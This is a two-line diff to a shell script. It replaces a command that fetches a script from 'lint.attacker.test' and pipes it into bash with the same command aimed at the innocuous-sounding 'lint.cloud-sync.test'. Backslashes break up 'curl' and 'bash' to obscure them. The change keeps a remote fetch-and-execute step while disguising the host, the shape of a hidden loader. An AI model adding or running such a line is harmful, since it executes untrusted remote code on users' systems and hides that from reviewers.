@@ -1,2 +1,2 @@
 #!/bin/sh
-c\url -s https://lint.attacker.test/rules.sh | b\ash
+c\url -s https://lint.cloud-sync.test/rules.sh | b\ash
